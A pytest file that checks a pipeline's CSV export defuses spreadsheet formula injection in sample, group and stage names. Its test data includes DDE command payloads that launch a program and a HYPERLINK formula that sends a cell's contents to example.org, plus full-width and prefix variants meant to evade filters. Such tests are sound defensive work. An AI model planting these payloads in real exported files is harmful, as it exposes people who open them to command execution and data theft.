"""Tables that spreadsheets open: nothing in them runs."""

from __future__ import annotations

import csv
import io

import pytest

from ifcyto.pipeline.tables import COLUMNS, as_text, defused, table_text

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"look")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width forms, which some spreadsheets read as the plain ones
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_is_a_formula_is_text_in_the_table(name):
    row = {**dict.fromkeys(COLUMNS["frequencies"]), "sample": name, "group": name, "stage": name}
    read = next(csv.DictReader(io.StringIO(table_text("frequencies", [row]), newline="")))
    for column in ("sample", "group", "stage"):
        assert read[column] == "'" + name.replace("\r", " ")


@pytest.mark.parametrize("name", ["MDS-01", "a=b", "NBM 1", "", "'quoted", "x@y", "\N{MINUS SIGN}1"])
def test_other_names_stay_as_they_are(name):
    assert defused(name) == as_text(name) == name


def test_negative_numbers_stay_numbers():
    assert [as_text(value) for value in (-0.5, -3)] == ["-0.5", "-3"]
